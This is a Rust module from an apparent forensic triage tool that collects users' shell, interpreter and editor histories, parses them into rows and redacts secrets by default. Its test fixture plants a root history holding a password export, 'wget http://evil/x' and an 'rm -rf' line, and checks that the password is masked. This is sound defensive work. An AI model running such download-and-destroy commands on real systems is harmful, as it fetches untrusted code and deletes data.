//! What users typed: histories of shells, interpreters and database clients, and what editors and pagers remember.
//!
//! They are looked for at their usual places in every home. Where a shell was told to write elsewhere, `HISTFILE` in
//! `process_envs` and in the shell files of `persistence` says so.

mod parse;
mod patterns;

use std::time::Duration;

use self::parse::Command;
use super::file_set::{FileSet, Limits, Order, Text, bounded};
use super::{Evidence, Source, Stop};
use crate::host::Host;
use crate::model::{Artefact, Category, Outcome, Profile, Row, Status, escape};

/// The line of the catalogue.
pub const ARTEFACT: Artefact = Artefact {
    name: "histories",
    category: Category::Session,
    profile: Profile::Triage,
    budget: Duration::from_secs(60),
    budget_bytes: Some(TOTAL),
    source: "files in homes",
    about: "histories of shells, interpreters, database clients, editors and pagers of every user, secrets hidden",
    tables: &["history_files", "shell_history"],
};

/// The most bytes that are kept of all files together.
const TOTAL: u64 = 512 << 20;

/// Keeps histories.
#[derive(Debug, Clone, Copy, Default)]
pub struct Histories {
    /// Keep secrets in them as they are.
    pub include_secrets: bool,
}

impl Source for Histories {
    fn artefact(&self) -> Artefact {
        ARTEFACT
    }

    fn acquire(&self, host: &Host, evidence: &mut dyn Evidence) -> Result<Outcome, Stop> {
        let set = FileSet {
            table: "history_files",
            groups: patterns::GROUPS,
            limits: Limits::bytes(32 << 20, TOTAL),
            order: Order::NewestFirst,
            include_secrets: self.include_secrets,
            is_read: None,
        };
        let count = set.keep(host, evidence, &mut |text, evidence| rows(host, text, evidence).map(|()| Vec::new()))?;
        Ok(if count == 0 { Outcome::because(Status::Absent, "no user has a history") } else { Outcome::ok() })
    }
}

fn rows(host: &Host, text: &Text<'_>, evidence: &mut dyn Evidence) -> Result<(), Stop> {
    match text.found.group.kind {
        "bash" => commands(host, text, evidence, parse::bash(text.bytes)),
        "zsh" => commands(host, text, evidence, parse::zsh(text.bytes)),
        "fish" => commands(host, text, evidence, parse::fish(text.bytes)),
        "lines" => commands(host, text, evidence, parse::plain(text.bytes)),
        _ => Ok(()),
    }
}

fn commands(
    host: &Host,
    text: &Text<'_>,
    evidence: &mut dyn Evidence,
    commands: impl Iterator<Item = Command>,
) -> Result<(), Stop> {
    let path = text.found.path.as_slice();
    let home = text.found.home.as_deref();
    bounded(text, evidence, commands.zip(0_u64..), |(command, ordinal), evidence| {
        let mut row = Row::new(host.clock.now(), escape::bytes(path));
        if let Some(uid) = home.and_then(|home| home.uid) {
            row.int("uid", uid);
        }
        if let Some(time) = command.time {
            row.int("time", time);
        }
        row.bytes("command", &command.text).bytes("history_file", path);
        if let Some(name) = home.and_then(|home| home.username.as_deref()) {
            row.bytes("username", name);
        }
        row.int("ordinal", ordinal).text("kind", text.found.group.kind);
        evidence.row("shell_history", &row)
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::host::fixture;
    use crate::source::recorded::Recorded;

    fn acquired(files: &[(&str, &[u8])]) -> (Outcome, Recorded) {
        let tree = tempfile::tempdir().unwrap();
        let host = fixture::host(tree.path(), files);
        let mut evidence = Recorded::default();
        let outcome = Histories::default().acquire(&host, &mut evidence).unwrap();
        (outcome, evidence)
    }

    #[test]
    fn commands_have_their_user_time_and_no_secrets() {
        let (outcome, evidence) = acquired(&[
            ("etc/passwd", b"root:x:0:0::/root:/bin/sh\nann:x:1000:1000::/home/ann:/bin/zsh\n"),
            ("root/.bash_history", b"#1700000000\nexport DB_PASSWORD=hunter2; wget http://evil/x\nrm -rf \x1b\xff\n"),
            ("home/ann/.zsh_history", b": 1700000001:0;ls\n"),
            ("home/ann/.local/share/fish/fish_history", b"- cmd: id\n  when: 1700000002\n"),
            ("home/ann/.python_history", b"import os\n"),
            ("home/ann/.lesshst", b".less-history-file:\n"),
            ("home/gone/.bash_history", b"whoami\n"),
            ("home/ann/.local/share/atuin/history.db", b"SQLite format 3\0 hunter2"),
        ]);
        assert_eq!((outcome, evidence.gaps.len()), (Outcome::ok(), 0));
        let mut rows: Vec<_> = evidence.rows("shell_history").to_vec();
        rows.sort_by_key(|row| (row["history_file"].to_string(), row["ordinal"].as_u64()));
        let shown: Vec<_> = rows.iter().map(|row| (row["uid"].as_u64(), row["time"].as_u64(), row["command"].as_str())).collect();
        assert_eq!(shown[0], (Some(1000), Some(1_700_000_002), Some("id")));
        assert_eq!(shown[1], (Some(1000), None, Some("import os")));
        assert_eq!(shown[2], (Some(1000), Some(1_700_000_001), Some("ls")));
        assert_eq!(shown[3].2, Some("whoami"));
        assert_eq!(shown[4], (Some(0), Some(1_700_000_000), Some("export DB_PASSWORD=xxxxxxxx wget http://evil/x")));
        assert_eq!((&rows[5]["command_b64"], &rows[3]["username"]), (&"cm0gLXJmIBv/".into(), &serde_json::Value::Null));
        assert!(evidence.member("/home/ann/.lesshst").is_some());
        let database = evidence.rows("history_files").iter().find(|row| row["kind"] == "database").unwrap();
        assert_eq!((&database["secret"], &database["size"], &database["stored"]), (&1.into(), &24.into(), &0.into()));
        assert_eq!(evidence.member("/home/ann/.local/share/atuin/history.db"), None);
        assert!(!evidence.member("/root/.bash_history").unwrap().windows(7).any(|w| w == b"hunter2"));
    }

    #[test]
    fn a_host_without_histories_is_absent() {
        assert_eq!(acquired(&[]).0.status, Status::Absent);
    }
}
